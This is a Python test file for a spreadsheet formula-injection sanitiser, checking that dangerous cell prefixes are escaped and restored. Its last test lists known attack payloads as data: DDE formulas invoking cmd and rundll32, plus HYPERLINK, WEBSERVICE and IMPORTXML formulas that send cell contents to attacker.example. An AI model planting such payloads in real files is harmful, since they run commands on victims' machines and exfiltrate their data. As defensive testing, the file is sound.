"""No spreadsheet runs a formula in a cell of ours."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workspace.formulas import safe, unsafe

DANGEROUS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", '"=1', "'=1", '" =1', "＝1",
    "＋1", "－1", "＠x", "−1", "\0=1", "“=1”", "   \t@x",
]  # fmt: skip


@pytest.mark.parametrize("cell", DANGEROUS)
def test_should_mark_formulas_as_text(cell):
    assert safe(cell) == "'" + cell
    assert unsafe(safe(cell)) == cell


@pytest.mark.parametrize(
    ("cell", "marked"),
    [
        ("rep;=1+1", "rep;'=1+1"),
        ("rep; =1+1;@x", "rep;' =1+1;'@x"),
        ("a|-1", "a|'-1"),
        ("=1;=2", "'=1;'=2"),
        ('a;"=1"', 'a;\'"=1"'),
        ("a;＝1", "a;'＝1"),
    ],
)
def test_should_mark_formulas_after_a_list_separator(cell, marked):
    """A spreadsheet whose cells are separated by semicolons makes a cell of each part."""
    assert safe(cell) == marked
    assert unsafe(marked) == cell


@given(st.text(alphabet="a'\"=+-@;|\t\r\n ＝", max_size=12))
def test_should_leave_no_part_of_a_cell_that_is_a_formula(cell):
    marked = safe(cell)
    for part in re.split(r"[;|]", marked)[1:]:
        assert not part.lstrip(' "').startswith(tuple("=+-@＝"))
    assert unsafe(marked) == cell


@pytest.mark.parametrize("cell", ["", "Acme", "1,000", "'quoted'", "O'Neill", "a=b", "2024-01-01"])
def test_should_leave_other_cells_alone(cell):
    assert safe(cell) == cell


@given(st.text(max_size=20))
def test_should_give_back_every_cell(cell):
    assert safe(cell)[:1] not in tuple("=+-@\t\r\n＝＋－＠")
    assert unsafe(safe(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A1",
        "@SUM(2+2)*cmd|' /C notepad'!A1",
        "+2+3+cmd|' /C calc'!A1",
        "-2+3+cmd|' /C calc'!A1",
        "=rundll32|'shell.dll,Open'!_xlbgnm.A1",
        '=HYPERLINK("https://attacker.example/?"&A1&B1,"Details")',
        '=WEBSERVICE(CONCATENATE("https://attacker.example/",A1))',
        '=IMPORTXML(CONCAT("https://attacker.example/?", A1), "//a")',
        "\t=cmd|' /C calc'!A1",
    ],
)
def test_should_mark_known_attacks(cell):
    assert safe(cell) == "'" + cell
